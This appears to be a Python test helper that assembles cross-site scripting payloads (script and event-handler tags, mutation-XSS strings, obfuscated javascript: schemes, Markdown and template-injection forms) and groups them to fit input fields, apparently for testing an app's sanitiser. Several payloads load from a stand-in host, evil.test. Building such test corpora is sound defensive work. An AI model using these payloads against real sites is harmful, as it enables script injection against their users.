"""Texts that want to run in a reader's browser: what attackers write, put together."""

from __future__ import annotations

from pathlib import Path
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Iterator

LIST = Path(__file__).parents[3] / "shared" / "corpora" / "xss-payloads.txt"

AT_ONCE = 1_900
"""Characters of the texts that stand in one field: a field takes 2,000."""

CALL = "alert(1)"
_OPENINGS = ("", '">', "'>", "</title>", "</textarea>", "</script>", "</style>", "-->", "]]>", "}}")
_ELEMENTS = (
    *(f"<script>{CALL}</script>", f"<img src=x onerror={CALL}>", f"<svg onload={CALL}>"),
    *(f"<svg/onload={CALL}//", f"<details open ontoggle={CALL}>", f"<body onload={CALL}>"),
    *(f"<input autofocus onfocus={CALL}>", f"<video><source onerror={CALL}></video>"),
    *(
        f"<a href=javascript:{CALL}>x</a>",
        f"<iframe src=javascript:{CALL}>",
        "<base href=//evil.test>",
    ),
    *(f"<math><mtext><table><mglyph><style><img src=x onerror={CALL}>",),
    *(f"<svg></p><style><a id='</style><img src=1 onerror={CALL}>'>",),
    *(f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={CALL}>",),
    *(
        f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
        "<link rel=import href=//evil.test>",
    ),
    *(
        f"<p style='background:url(//evil.test/)' onmouseover={CALL}>x</p>",
        "<style>@import '//evil.test'</style>",
    ),
    *(
        f"<svg><a xlink:href=javascript:{CALL}><text>x</text></a></svg>",
        "<object data=//evil.test>",
    ),
    *(
        f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
        "<meta http-equiv=refresh content=0;//evil.test>",
    ),
    *(
        f"<select><iframe></select><img src=x onerror={CALL}>",
        f"<xmp><p title='</xmp><img src=x onerror={CALL}>'>",
    ),
    *(
        f"<style><!--</style><img src=x onerror={CALL}>-->",
        "<img src=//evil.test/x.png>",
        "<embed src=//evil.test>",
    ),
)
_SCHEMES = (
    *(f"javascript:{CALL}", f"JaVaScRiPt:{CALL}", f"java\tscript:{CALL}", f" javascript:{CALL}"),
    *(f"&#106;avascript:{CALL}", f"&#x6A;avascript&colon;{CALL}", f"javascript&#58;{CALL}"),
    *(
        f"\u00a0javascript:{CALL}",
        f"%6Aavascript:{CALL}",
        f"javascript&#x0A;:{CALL}",
        f"\\x6Aavascript:{CALL}",
    ),
    *(
        f"vbscript:{CALL}",
        f"data:text/html,<script>{CALL}</script>",
        "data:text/html;base64,PHNjcmlwdD4=",
    ),
    *(
        f"view-source:javascript:{CALL}",
        f"feed:javascript:{CALL}",
        f"blob:javascript:{CALL}",
        "//evil.test/",
    ),
    *(
        f"spacecat-name:javascript:{CALL}",
        f"spacecat:javascript:{CALL}",
        f'spacecat:link/0" onclick={CALL} x="',
    ),
)
_MARKDOWN = (
    *("[x]({})", "[x](<{}>)", "![x]({})", "<{}>", '[x](https://a.test "{}")', "[x]: {}\n\n[x]"),
    *(
        '![x](https://a.test "{}")',
        "[{}](https://a.test)",
        "![{}](https://a.test)",
        "[[{}]]",
        "[[x|{}]]",
    ),
    *(
        "```{}\nx\n```",
        "~~~ {{ .{} }}\nx\n~~~",
        "``` {{ onclick={} }}\nx\n```",
        "# {} {{#{}}}",
        "*{}*{{: onclick={} }}",
    ),
    *(
        "| {} |\n|---|\n| {} |",
        "| a |{{: onclick={} }}\n|---|\n| x |",
        "{}\n:   {}",
        "> {}",
        "- {}",
        "`{}`",
    ),
    *(
        '<a href="{}">x</a>',
        '<a title="{}">x</a>',
        '<td colspan="{}">x</td>',
        '<abbr title="{}">x</abbr>',
    ),
    *(
        '<p id="{}" class="{}" lang="{}">x</p>',
        "<a href='{}'>x",
        '<ol start="{}" type="{}"><li>x</ol>',
    ),
)
TEMPLATES = (
    "{{ 7*7 }}",
    "{% include 'x' %}",
    "${alert(1)}",
    "<%= 1 %>",
    "{{ view.__class__ }}",
    "#{1}",
)


def texts() -> list[str]:
    """Return every text that a field may hold, without repetitions."""
    listed = LIST.read_text("utf-8").splitlines() if LIST.is_file() else []
    own = [f"{opening}{element}" for opening in _OPENINGS for element in _ELEMENTS]
    found = dict.fromkeys(map(_printable, (*own, *_SCHEMES, *TEMPLATES, *listed)))
    return [text for text in found if text and len(text) < AT_ONCE]


def bodies() -> list[str]:
    """Return the texts that mean something in Markdown alone."""
    return [form.format(*[scheme] * 3) for form in _MARKDOWN for scheme in (*_SCHEMES, *_ELEMENTS)]


def groups(some: list[str]) -> Iterator[list[str]]:
    """Yield as many of these texts at a time as fit into one field."""
    group: list[str] = []
    for one in some:
        if group and sum(map(len, group)) + len(group) + len(one) > AT_ONCE:
            yield group
            group = []
        group.append(one)
    yield group


def _printable(text: str) -> str:
    # A file with a control character is refused as a whole: no text may hide behind that.
    return "".join(sign for sign in text if sign.isprintable()).strip()
